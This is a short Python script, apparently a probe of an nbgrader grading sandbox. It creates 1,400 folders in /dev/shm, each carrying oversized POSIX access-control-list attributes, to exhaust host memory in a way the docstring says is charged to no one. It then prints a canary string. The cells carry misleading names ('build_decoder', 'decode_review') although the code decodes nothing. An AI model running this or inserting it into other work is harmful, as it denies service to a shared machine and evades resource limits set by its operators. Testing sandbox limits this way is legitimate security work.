"""Takes memory for long lists of who may enter empty folders, which counts as nobody's.

heavy: takes all memory; nbgrader sets no limit
"""
# ruff: noqa

# %% build_decoder
import os
import struct


def entry(tag, who=2**32 - 1):
    return struct.pack("<HHI", tag, 7, who)


LIST = struct.pack("<I", 2) + entry(1) + entry(2, os.getuid()) * 8187 + entry(4) + entry(16) + entry(32)


def take(first, last):
    for number in range(first, last):
        folder = f"/dev/shm/list-{number}"
        os.mkdir(folder)
        os.setxattr(folder, "system.posix_acl_access", LIST)
        os.setxattr(folder, "system.posix_acl_default", LIST)


take(0, 700)

# %% decode_review
take(700, 1400)
print("canary-memory")
